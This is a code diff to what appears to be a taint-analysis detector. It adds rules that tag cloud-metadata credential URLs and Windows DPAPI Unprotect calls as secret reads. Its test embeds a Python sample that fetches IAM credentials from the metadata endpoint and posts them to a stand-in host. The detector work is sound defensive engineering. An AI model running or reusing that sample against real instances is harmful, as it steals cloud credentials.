@@ -2123,7 +2123,17 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
             None
         };
         if let Some(function) = defined {
-            return self.apply_function(&function, &args, span);
+            let mut v = self.apply_function(&function, &args, span);
+            // A helper handed a cloud metadata credentials URL returns the credentials.
+            if let Some(url) = args
+                .pos
+                .first()
+                .filter(|url| super::tables::is_cloud_credential_url(&url.text))
+            {
+                let origin = self.a.emit("secret-read/cloud-metadata", span, url.text.clone(), None);
+                v.taint = v.taint.union(Taint::of(Taint::SECRET, origin));
+            }
+            return v;
         }
         let lower = global_name(&name.to_ascii_lowercase(), self.lang);
         let callee_hidden = callee.taint.hidden();
@@ -3350,6 +3360,16 @@ impl<'e, 'f, 'p> Eval<'e, 'f, 'p> {
         let first = args.pos.first().cloned().unwrap_or_default();
         match (type_name, name) {
             (_, "frombase64string") => self.decode(&first, "base64", span),
+            // DPAPI: what Windows encrypted for this user, decrypted.
+            (ty, "unprotect") if ty.contains("protecteddata") => {
+                let origin = self.a.emit(
+                    "secret-read/system-credentials",
+                    span,
+                    format!("[{ty}]::Unprotect"),
+                    None,
+                );
+                Val::unknown("<secret>").tainted(Taint::of(Taint::SECRET, origin))
+            }
             (ty, "getstring") if ty.contains("encoding") => {
                 let callee = Val::named(format!("{ty}.getstring"));
                 let args2 = CallArgs {
@@ -3969,6 +3989,17 @@ mod tests {
             Lang::PowerShell,
             "secret-read/env-dump"
         ));
+    }
+
+    #[test]
+    fn cloud_metadata_credentials_are_secrets_wherever_they_are_sent() {
+        let py = "import requests\nMD = 'http://169.254.169.254'\ncreds = requests.get(MD + '/latest/meta-data/iam/security-credentials/app').text\nrequests.post('https://collect.example/r', data=creds)\n";
+        let t = tags(py, Lang::Python);
+        assert!(t.iter().any(|t| t == "secret-read/cloud-metadata"), "{t:?}");
+        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
+        let ok = "import requests\niid = requests.get('http://169.254.169.254/latest/meta-data/instance-id').text\nrequests.post('https://collect.example/r', data=iid)\n";
+        let t = tags(ok, Lang::Python);
+        assert!(!t.iter().any(|t| t.starts_with("secret-read")), "{t:?}");
     }
 
     #[test]
